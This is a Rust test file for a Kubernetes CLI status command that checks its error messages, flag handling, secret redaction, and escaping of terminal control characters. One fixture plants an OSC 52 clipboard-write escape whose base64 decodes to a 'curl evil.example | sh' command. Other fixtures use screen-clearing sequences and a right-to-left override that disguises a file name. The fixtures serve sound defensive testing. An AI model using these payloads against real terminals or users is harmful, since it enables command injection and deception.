//! The shell's requests and its one-line errors, against a mocked API server.

use clap::Parser;
use http::{Request, Response};
use kube::client::Body;
use serde_json::{Value, json};
use tower_test::mock;

use super::*;

/// `status ...` as typed after the binary's name.
fn args(line: &str) -> StatusArgs {
    #[derive(Parser)]
    struct Cli {
        #[command(flatten)]
        status: StatusArgs,
    }
    Cli::try_parse_from(std::iter::once("status").chain(line.split_whitespace()))
        .expect("valid arguments")
        .status
}

fn status_body(code: u16, reason: &str, message: &str) -> Value {
    json!({"kind": "Status", "apiVersion": "v1", "status": "Failure", "code": code, "reason": reason, "message": message})
}

/// Runs `status` against a server that answers each (method path) with the
/// scripted (code, body), in order, and fails on any other request.
async fn run_against(
    line: &str,
    script: Vec<(&'static str, u16, Value)>,
) -> Result<String, String> {
    let (service, mut handle) = mock::pair::<Request<Body>, Response<Body>>();
    let server = tokio::spawn(async move {
        for (expected, code, body) in script {
            let (request, send) = handle.next_request().await.expect("a request");
            let seen = format!("{} {}", request.method(), request.uri().path());
            assert_eq!(seen, expected);
            send.send_response(
                Response::builder()
                    .status(code)
                    .body(Body::from(serde_json::to_vec(&body).unwrap()))
                    .unwrap(),
            );
        }
    });
    let client = Client::new(service, "default");
    let mut out = Vec::new();
    let result = run_with_client(&client, &args(line), &mut out, Palette::plain()).await;
    server.await.expect("every scripted request was made");
    result
        .map(|()| String::from_utf8(out).unwrap())
        .map_err(|e| e.to_string())
}

const CHANNEL: &str =
    "GET /apis/interactions.dev/v1alpha1/namespaces/team-a/deploymentchannels/support";
const DISCOVERY: &str = "GET /apis/interactions.dev/v1alpha1";

#[tokio::test]
async fn missing_crds_are_named_with_how_to_install_them() {
    let error = run_against(
        "channel support -n team-a",
        vec![
            (
                CHANNEL,
                404,
                status_body(
                    404,
                    "NotFound",
                    "the server could not find the requested resource",
                ),
            ),
            (
                DISCOVERY,
                404,
                status_body(
                    404,
                    "NotFound",
                    "the server could not find the requested resource",
                ),
            ),
        ],
    )
    .await
    .unwrap_err();
    assert_eq!(
        error,
        "this cluster does not serve deploymentchannels.interactions.dev (interactions.dev/v1alpha1): the CRDs are not installed; install them with `kubectl apply --server-side -k crds/` or `deploymentchannel-operator crd | kubectl apply --server-side -f -`"
    );
}

#[tokio::test]
async fn a_missing_channel_is_named() {
    let error = run_against(
        "channel support -n team-a",
        vec![
            (CHANNEL, 404, status_body(404, "NotFound", "deploymentchannels.interactions.dev \"support\" not found")),
            (
                DISCOVERY,
                200,
                json!({"kind": "APIResourceList", "groupVersion": "interactions.dev/v1alpha1", "resources": [
                    {"name": "deploymentchannels", "singularName": "deploymentchannel", "namespaced": true, "kind": "DeploymentChannel", "verbs": ["get", "list"]},
                    {"name": "phoneconfigurations", "singularName": "phoneconfiguration", "namespaced": true, "kind": "PhoneConfiguration", "verbs": ["get", "list"]}
                ]}),
            ),
        ],
    )
    .await
    .unwrap_err();
    assert_eq!(
        error,
        "DeploymentChannel \"support\" in namespace \"team-a\" does not exist"
    );
}

#[tokio::test]
async fn forbidden_reads_say_what_access_is_missing() {
    let message = "phoneconfigurations.interactions.dev \"line\" is forbidden: User \"reader\" cannot get resource \"phoneconfigurations\" in API group \"interactions.dev\" in the namespace \"team-a\"";
    let error = run_against(
        "phoneconfiguration line -n team-a",
        vec![(
            "GET /apis/interactions.dev/v1alpha1/namespaces/team-a/phoneconfigurations/line",
            403,
            status_body(403, "Forbidden", message),
        )],
    )
    .await
    .unwrap_err();
    assert_eq!(
        error,
        format!(
            "you may not get PhoneConfiguration \"line\" in namespace \"team-a\": ask for get access to phoneconfigurations.interactions.dev in namespace \"team-a\" (the API server said: {message})"
        )
    );
    assert!(!error.contains('\n'));
}

#[tokio::test]
async fn summary_without_phone_configuration_rights_still_counts_channels() {
    let out = run_against(
        "-n team-a",
        vec![
            (
                "GET /apis/interactions.dev/v1alpha1/namespaces/team-a/deploymentchannels",
                200,
                json!({"apiVersion": "interactions.dev/v1alpha1", "kind": "DeploymentChannelList", "metadata": {}, "items": []}),
            ),
            (
                "GET /apis/interactions.dev/v1alpha1/namespaces/team-a/phoneconfigurations",
                403,
                status_body(403, "Forbidden", "forbidden"),
            ),
        ],
    )
    .await
    .unwrap();
    assert_eq!(
        out,
        concat!(
            "Namespace team-a: 0 channels, 0 ready, 0 not ready\n",
            "├─ PhoneConfigurations: not readable (see below)\n",
            "└─ Not readable\n",
            "   └─ you may not list PhoneConfigurations in namespace \"team-a\": ask for list access to phoneconfigurations.interactions.dev in namespace \"team-a\" (the API server said: forbidden)\n",
        )
    );
}

#[tokio::test]
async fn all_namespaces_is_only_for_the_summary() {
    let error = run_against("channel support -A", vec![]).await.unwrap_err();
    assert!(
        error.starts_with("--all-namespaces (-A) applies only to the summary"),
        "{error}"
    );
}

#[test]
fn flags_go_before_or_after_the_kind() {
    let before = args("-n team-a -o json --context dev --kubeconfig /k channel support");
    let after = args("channel support -n team-a -o json --context dev --kubeconfig /k");
    assert_eq!(before, after);
    assert_eq!(after.namespace.as_deref(), Some("team-a"));
    assert_eq!(after.output, StatusOutput::Json);
    assert_eq!(
        after.target,
        Some(StatusTarget::Channel {
            name: "support".into()
        })
    );
    assert_eq!(args("dchan support").target, args("channel support").target);
    assert_eq!(
        args("phonecfg line").target,
        Some(StatusTarget::PhoneConfiguration {
            name: "line".into()
        })
    );
}

/// Characters no printed field may carry raw: C0 (but the newline), DEL,
/// C1 and bidi controls.
fn raw_controls(text: &str) -> Vec<char> {
    text.chars()
        .filter(|c| {
            (c.is_control() && *c != '\n')
                || matches!(c, '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}' | '\u{200e}' | '\u{200f}' | '\u{61c}')
        })
        .collect()
}

const OSC52: &str = "\u{1b}]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\u{7}";

fn evil_channel(name: &str) -> Value {
    json!({
        "apiVersion": "interactions.dev/v1alpha1", "kind": "DeploymentChannel",
        "metadata": {"name": name, "namespace": "team-a", "uid": "u1"},
        "spec": {
            "deploymentType": "WEB",
            "channelName": format!("chat\u{202e}gnp.exe"),
            "channelIdentifier": format!("https://example.com/{OSC52}"),
            "configuration": {"communicationType": "UNIFIED"}
        },
        "status": {"conditions": [{
            "type": "Ready", "status": "False", "reason": "Invalid\u{9b}2J",
            "message": format!("bad \u{1b}[2J\u{1b}[H{OSC52} \u{2066}x\u{2069}"),
            "lastTransitionTime": "2026-01-01T00:00:00Z"
        }]}
    })
}

#[tokio::test]
async fn escape_sequences_in_objects_never_reach_the_terminal() {
    let list = |items: Vec<Value>, kind: &str| json!({"apiVersion": "interactions.dev/v1alpha1", "kind": kind, "metadata": {}, "items": items});
    let pc = json!({
        "apiVersion": "interactions.dev/v1alpha1", "kind": "PhoneConfiguration",
        "metadata": {"name": "p", "namespace": "team-a"},
        "spec": {"phoneNumber": "+12125551234", "provider": format!("twilio{OSC52}"), "capabilities": ["VOICE"]},
        "status": {"conditions": [{"type": "Ready", "status": "False", "reason": "X", "message": format!("m{OSC52}\u{85}"), "lastTransitionTime": "2026-01-01T00:00:00Z"}]}
    });
    let out = run_against(
        "-n team-a",
        vec![
            (
                "GET /apis/interactions.dev/v1alpha1/namespaces/team-a/deploymentchannels",
                200,
                list(vec![evil_channel("web")], "DeploymentChannelList"),
            ),
            (
                "GET /apis/interactions.dev/v1alpha1/namespaces/team-a/phoneconfigurations",
                200,
                list(vec![pc.clone()], "PhoneConfigurationList"),
            ),
        ],
    )
    .await
    .unwrap();
    assert_eq!(raw_controls(&out), Vec::<char>::new(), "{out}");
    assert!(out.contains("\\u{1b}"), "{out}");

    let event = json!({
        "apiVersion": "v1", "kind": "Event",
        "metadata": {"name": "e", "namespace": "team-a"},
        "involvedObject": {"kind": "DeploymentChannel", "name": "web", "namespace": "team-a", "uid": "u1"},
        "reason": format!("R{OSC52}"), "message": format!("event {OSC52}\u{202e}"), "type": "Warning", "count": 1,
        "lastTimestamp": "2026-01-01T00:00:00Z"
    });
    for output in ["", " -o json"] {
        let out = run_against(
            &format!("channel web -n team-a{output}"),
            vec![
                (
                    "GET /apis/interactions.dev/v1alpha1/namespaces/team-a/deploymentchannels/web",
                    200,
                    evil_channel("web"),
                ),
                (
                    "GET /apis/interactions.dev/v1alpha1/namespaces/team-a/deploymentchannels",
                    200,
                    list(vec![evil_channel("web")], "DeploymentChannelList"),
                ),
                (
                    "GET /api/v1/namespaces/team-a/events",
                    200,
                    json!({"apiVersion": "v1", "kind": "EventList", "metadata": {}, "items": [event.clone()]}),
                ),
            ],
        )
        .await
        .unwrap();
        let shown = if output.is_empty() {
            out.clone()
        } else {
            printable::json_safe(&out)
        };
        assert_eq!(raw_controls(&shown), Vec::<char>::new(), "{out}");
        assert_eq!(raw_controls(&out), Vec::<char>::new(), "{out}");
    }
}

#[tokio::test]
async fn a_broken_kubeconfig_is_named_by_file_and_position_only() {
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("config");
    std::fs::write(
        &path,
        "apiVersion: v1
kind: Config
users:
- name: u
  user:
    token: sha256~SECRETTOKEN123
    client-key-data: LS0tLS1CRUdJTiBQUklWQVRFIEtFWS0tLS0tCk1JSUV2U0VDUkVU
  : [broken
current-context: c
",
    )
    .unwrap();
    let error = run(
        &args(&format!("--kubeconfig {}", path.display())),
        &mut Vec::new(),
        Palette::plain(),
    )
    .await
    .unwrap_err()
    .to_string();
    for secret in ["SECRETTOKEN", "LS0tLS1", "client-key", "token"] {
        assert!(!error.contains(secret), "{secret} in {error}");
    }
    assert!(
        error.starts_with(&format!(
            "cannot parse kubeconfig {}: a YAML error at line ",
            path.display()
        )),
        "{error}"
    );
}

#[cfg(unix)]
#[tokio::test]
async fn a_failing_credential_plugin_is_named_by_command_and_status_only() {
    let dir = tempfile::tempdir().unwrap();
    let plugin = dir.path().join("cred-plugin");
    std::fs::write(
        &plugin,
        "#!/bin/sh\necho \"stdout-secret $PLUGIN_SECRET\"\necho stderr-secret >&2\nexit 3\n",
    )
    .unwrap();
    {
        use std::os::unix::fs::PermissionsExt;
        std::fs::set_permissions(&plugin, std::fs::Permissions::from_mode(0o755)).unwrap();
    }
    let path = dir.path().join("config");
    std::fs::write(
        &path,
        format!(
            "apiVersion: v1
kind: Config
clusters:
- name: c
  cluster: {{server: 'https://127.0.0.1:1'}}
contexts:
- name: c
  context: {{cluster: c, user: u, namespace: team-a}}
current-context: c
users:
- name: u
  user:
    exec:
      apiVersion: client.authentication.k8s.io/v1
      command: {}
      interactiveMode: Never
      env:
      - name: PLUGIN_SECRET
        value: ENVSECRETVALUE
",
            plugin.display()
        ),
    )
    .unwrap();
    let error = run(
        &args(&format!("--kubeconfig {} channel web", path.display())),
        &mut Vec::new(),
        Palette::plain(),
    )
    .await
    .unwrap_err()
    .to_string();
    for secret in [
        "ENVSECRETVALUE",
        "stdout-secret",
        "stderr-secret",
        "PLUGIN_SECRET",
    ] {
        assert!(!error.contains(secret), "{secret} in {error}");
    }
    assert!(error.contains("failed with exit status 3"), "{error}");
    assert!(error.contains("cred-plugin"), "{error}");
}
